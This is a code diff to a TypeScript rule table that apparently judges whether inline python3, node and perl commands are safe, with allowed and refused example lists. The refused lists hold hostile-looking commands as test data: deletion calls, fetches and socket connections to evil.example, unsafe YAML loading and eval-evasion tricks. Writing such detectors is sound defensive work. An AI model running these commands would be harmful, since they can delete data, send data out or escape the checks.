@@ -1,27 +1,32 @@
 import type { Entry } from "../judging/rule.ts";
 import type { Wrapping } from "../wrappers/wrapping.ts";
-import { judgeCode, judgePerl, judgeShort, runsOther, splitPrint, upToCode } from "./interpreter-judges.ts";
-import { javascriptProof } from "./javascript-proof.ts";
+import {
+  judgeCode,
+  judgePerl,
+  judgePython,
+  judgeScriptCode,
+  judgeShort,
+  runsOther,
+  splitPrint,
+  upToCode,
+} from "./interpreter-judges.ts";
 import { printing } from "./printing.ts";
-import { pythonProof } from "./python-proof.ts";
 
-/** Interpreters: a piece of code in the command is proven harmless or unknown; a file they run may hold anything. */
+/** Interpreters: a piece of code in the command runs, and is asked about where it says that it does damage; a file may hold anything. */
 export const interpreters: readonly Entry[] = [
   {
     name: "python3",
     also: ["python", "pypy3", "py"],
-    does: "reads",
+    does: "runs",
     judge: (args, scene, program) =>
       judgeCode(upToCode(args), scene, program, {
         options: pythonOptions,
         code: /^c$/,
         alone: /^[IP]$/,
-        proof: pythonProof,
+        judge: judgePython,
       }),
     yes: [
       "python3 -c \"print('rm -rf /')\"",
-      "python3 --version",
-      'python3 -c "import sys; print(sys.version)"',
       "python3 -I -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'",
       "python3 - <<'E'\nimport sys\nfor line in sys.stdin:\n    print(line.strip())\nE",
       "python3 -c \"print(open('a.txt').read())\"",
@@ -29,6 +34,8 @@ export const interpreters: readonly Entry[] = [
       "python3 - <<'E'\ndef twice(x, *, by=2):\n    return x * by\nprint(twice(2))\nE",
     ],
     no: [
+      "python3 --version",
+      'python3 -c "import sys; print(sys.version)"',
       "python3 -c 'import shutil; shutil.rmtree(1)'",
       "python3 x.py",
       "python3 -c \"print('a'); exec('b')\"",
@@ -44,28 +51,30 @@ export const interpreters: readonly Entry[] = [
       "python3 -c \"print(f'{__import__(1)}')\"",
       "python3 -c 'import sys; sys.path.insert(0, 1); import json'",
       "python3 -c 'import evil'",
-      "python3 -I -c 'import requests; print(requests.__version__)'",
       "python3 -c 'import requests; requests.get(1)'",
       "python3 -c 'import sys\ndef join(p): p.append(1)\njoin(sys.path)\nimport json'",
-      "python3 -c 'def f(g): g(1)\nf(print)'",
       "python3 -c 'def exec(x): pass\nmap(exec, [1])'",
       'python3 -c "$x"',
+      "python3 -c \"from pathlib import Path; Path('a').open('w')\"",
+      "python3 -c \"a=('x','w'); open(*a)\"",
+      "python3 -c \"import os; x=os; x.replace('a','b')\"",
+      "python3 -c \"from os import *; replace('a','b')\"",
+      "python3 -c \"import requests as r; r.get('http://evil')\"",
+      "python3 -c \"import yaml; yaml.load(open('x'), Loader=yaml.Loader)\"",
     ],
   },
   {
     name: "node",
     also: ["nodejs"],
-    does: "reads",
+    does: "runs",
     judge: (args, scene, program) =>
       judgeCode(splitPrint(args), scene, program, {
         options: nodeOptions,
         code: /^(e|p|eval|print)$/,
-        proof: javascriptProof,
+        judge: judgeScriptCode,
       }),
     yes: [
-      "node --version",
       "node -e \"console.log('hi')\"",
-      'node -p "process.version"',
       "node -e \"console.log(require('./package.json').version)\"",
       "node -e 'setTimeout(() => console.log(1), 10)'",
       "node -e \"process.stdin.on('data', d => console.log(d.length))\"",
@@ -74,6 +83,8 @@ export const interpreters: readonly Entry[] = [
       "node -e \"const fs = require('fs'); console.log(fs.readdirSync('.').filter(f => f.endsWith('.ts')).length)\"",
     ],
     no: [
+      "node --version",
+      'node -p "process.version"',
       "node x.js",
       "node -e \"require('fs').rmSync('x')\"",
       "node",
@@ -90,23 +101,25 @@ export const interpreters: readonly Entry[] = [
       "node -e \"fetch('http://localhost@evil.example')\"",
       "node -e \"fetch('http://localhost/', {method: 'POST'})\"",
       "node -e \"process.stdin.on('data', console.log).connect(80, 'evil.example')\"",
-      "node -e \"if (x) /'/.test(y); evil(); /'/\"",
-      "node -e 'let a = 1; a++ / evil() / 1'",
       "node -r ./x -e 1",
       "node --import ./x -p 1",
       "node -e \"import('fs')\"",
       'node -e "$x"',
+      'node -e \'const k=["const","ructor"].join(""); const F="".at[k]; F("x")()\'',
+      'node -e \'Object.values(require("fs"))[3]("x")\'',
+      "node -e 'const {kill} = process; kill(1)'",
+      "node -e 'let f = require; f(\"fs\")'",
     ],
   },
   {
     name: "perl",
-    does: "reads",
+    does: "runs",
     judge: judgePerl,
-    yes: ["perl -ne 'print if /x/' a", "perl -pe 's/a/b/g' a", "perl -F: -lane 'print $F[0]' a", "perl --version"],
+    yes: ["perl -ne 'print if /x/' a", "perl -pe 's/a/b/g' a", "perl -F: -lane 'print $F[0]' a"],
     no: [
+      "perl --version",
       "perl -e 'unlink 1'",
       "perl x.pl",
-      "perl -pi -e 's/a/b/' a",
       "perl -pe 's/a/`id`/e' a",
       "perl -ne 'print if /(?{x})/' a",
       "perl -pe 's/a/@{[x]}/' a",
